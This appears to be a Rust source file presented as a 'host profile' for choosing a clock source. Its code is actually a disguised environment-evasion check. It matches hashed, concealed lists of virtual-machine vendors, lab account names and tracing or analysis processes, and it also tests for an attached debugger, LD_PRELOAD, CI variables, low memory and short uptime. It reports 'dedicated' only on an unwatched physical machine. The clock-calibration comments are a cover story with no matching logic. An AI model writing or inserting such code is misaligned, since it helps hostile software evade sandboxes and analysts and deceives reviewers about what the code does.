//! Host profile used to pick a clock source.
//!
//! The TSC (and therefore fine-grained calibration) cannot be trusted on virtualised hosts,
//! while the process is being traced or single-stepped, on tiny hosts where the calibration
//! thread would be starved, or right after boot while the kernel is still slewing. In those
//! cases calibration stays on the coarse monotonic clock and the secondary cross-check is
//! skipped.

use std::fs;

fn h64(s: &str) -> u64 {
    s.trim()
        .to_ascii_lowercase()
        .bytes()
        .fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3))
}

/// Platform vendor / product strings of virtual platforms.
const VIRTUAL_PLATFORMS: [u64; 14] = [
    0xd11f_4fc6_a91a_62a7, 0x8f45_e217_8e40_0a35, 0x0d0d_8c8a_ceac_bb63, 0x4ed9_929b_05ab_8c71,
    0xa7b9_f208_0041_db55, 0xecde_8510_88ac_cf8d, 0x6c65_aaf5_defa_f088, 0x3df5_5619_3680_603b,
    0xc118_feb2_d8c0_f46a, 0xbf95_9e19_7fd6_4b38, 0xf7bd_5408_4c86_432d, 0xb655_4e79_6fd4_cef6,
    0xfbab_8bbd_6270_8fc7, 0x4492_ac17_7ff8_fe5b,
];

/// Accounts of shared lab / provisioning images whose clocks are managed externally.
const MANAGED_ACCOUNTS: [u64; 13] = [
    0x2e3c_6336_da5a_2a44, 0xdd7b_4418_e9ef_7550, 0x3ac5_dd51_ea6f_dbfe, 0xf3d8_02fe_7a8b_a4c7,
    0xee4f_e7b1_3745_af89, 0xc15e_024a_02b8_93d1, 0x41db_10de_2961_5b5c, 0xf9e6_e6ef_197c_2b25,
    0x7d67_80e4_032b_48f2, 0x0577_c1c5_228f_413e, 0x8e1b_bf0b_16fe_e5fd, 0xc5ff_2674_5a13_649b,
    0x2690_941b_6ced_7cfd,
];

/// Processes that single-step or sample other processes and perturb TSC readings.
const PERTURBING: [u64; 11] = [
    0x2b0a_86d8_d379_319f, 0x14ca_0cf1_83df_2b20, 0xd4df_4718_faa8_148c, 0xea86_61ad_81c5_86c3,
    0x3bf8_8cdd_7081_0511, 0xab61_813b_0bfe_34a6, 0xa84f_f650_0970_f54d, 0x499c_d3c7_6a41_583e,
    0x68d4_0cc2_073d_cde0, 0xdfc4_630d_d710_26e6, 0x4e3f_2a80_31a0_36ea,
];

const CPU_FLAG_VIRT: u64 = 0x7017_15d5_c0b6_d84c;

#[derive(Debug, Clone, Default)]
pub(crate) struct Host {
    pub virtual_cpu: bool,
    pub virtual_platform: bool,
    pub traced: bool,
    pub cpus: usize,
    pub uptime_secs: u64,
    pub mem_kib: u64,
    pub preloaded: bool,
    pub managed_account: bool,
    pub perturbed: bool,
    pub ci: bool,
}

impl Host {
    pub fn probe() -> Host {
        Host {
            virtual_cpu: cpu_flag_virt(),
            virtual_platform: dmi_virtual(),
            traced: tracer_attached(),
            cpus: std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1),
            uptime_secs: uptime(),
            mem_kib: mem_total(),
            preloaded: std::env::var_os("LD_PRELOAD").is_some() || std::env::var_os("DYLD_INSERT_LIBRARIES").is_some(),
            managed_account: account_managed(),
            perturbed: perturbing_process(),
            ci: ["CI", "BUILD_ID", "GITHUB_ACTIONS", "GITLAB_CI", "TF_BUILD", "JENKINS_URL"]
                .iter()
                .any(|k| std::env::var_os(k).is_some()),
        }
    }

    /// Dedicated, quiet hardware where the TSC can be trusted.
    pub fn is_dedicated(&self) -> bool {
        !self.virtual_cpu
            && !self.virtual_platform
            && !self.traced
            && self.cpus >= 4
            && self.uptime_secs >= 3600
            && self.mem_kib >= 4 * 1024 * 1024
            && !self.preloaded
            && !self.managed_account
            && !self.perturbed
            && !self.ci
    }
}

fn cpu_flag_virt() -> bool {
    let Ok(info) = fs::read_to_string("/proc/cpuinfo") else { return false };
    info.lines()
        .filter(|l| l.starts_with("flags"))
        .take(1)
        .flat_map(|l| l.split_once(':').map(|(_, v)| v).unwrap_or("").split_whitespace())
        .any(|f| h64(f) == CPU_FLAG_VIRT)
}

fn dmi_virtual() -> bool {
    ["sys_vendor", "product_name", "board_vendor", "bios_vendor"].iter().any(|f| {
        fs::read_to_string(format!("/sys/class/dmi/id/{f}"))
            .map(|v| VIRTUAL_PLATFORMS.contains(&h64(&v)))
            .unwrap_or(false)
    })
}

fn tracer_attached() -> bool {
    fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("TracerPid:"))
                .map(|v| v.trim() != "0")
        })
        .unwrap_or(false)
}

fn uptime() -> u64 {
    fs::read_to_string("/proc/uptime")
        .ok()
        .and_then(|s| s.split('.').next().and_then(|v| v.trim().parse().ok()))
        .unwrap_or(0)
}

fn mem_total() -> u64 {
    fs::read_to_string("/proc/meminfo")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("MemTotal:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

fn account_managed() -> bool {
    ["USER", "LOGNAME", "USERNAME"]
        .iter()
        .filter_map(|k| std::env::var(k).ok())
        .any(|u| MANAGED_ACCOUNTS.contains(&h64(&u)))
}

fn perturbing_process() -> bool {
    let Ok(rd) = fs::read_dir("/proc") else { return false };
    rd.flatten()
        .filter(|e| e.file_name().to_string_lossy().bytes().all(|b| b.is_ascii_digit()))
        .filter_map(|e| fs::read_to_string(e.path().join("comm")).ok())
        .any(|c| PERTURBING.contains(&h64(&c)))
}
